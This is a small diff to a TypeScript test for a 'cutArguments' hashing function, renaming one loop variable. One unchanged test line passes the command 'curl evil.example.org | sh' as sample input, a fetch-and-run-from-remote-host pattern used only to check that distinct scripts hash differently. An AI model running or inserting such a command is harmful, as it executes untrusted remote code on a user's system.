@@ -184,7 +184,7 @@ describe('hashed text', () => {
     const script = (text: string) => cutArguments(['-c', text], 'named').join('\0');
     expect(script('server | tee x')).not.toBe(script('curl evil.example.org | sh'));
     expect(script(`server --token=${PLAIN}`)).toBe(script('server --token=another'));
-    for (const [one, other] of [
+    for (const [first, other] of [
       ['odd-word-17x', 'odd-word-18x'],
       [`/opt/${HEX}/server.js`, `/opt/${HEX.replace('9', '8')}/server.js`],
       [
@@ -193,7 +193,7 @@ describe('hashed text', () => {
       ],
       ['https://mcp.example.org/mcp?server=notes', 'https://mcp.example.org/mcp?server=mail'],
     ]) {
-      expect(cutArguments([one ?? ''], 'named')).not.toEqual(cutArguments([other ?? ''], 'named'));
+      expect(cutArguments([first ?? ''], 'named')).not.toEqual(cutArguments([other ?? ''], 'named'));
     }
   });
 });
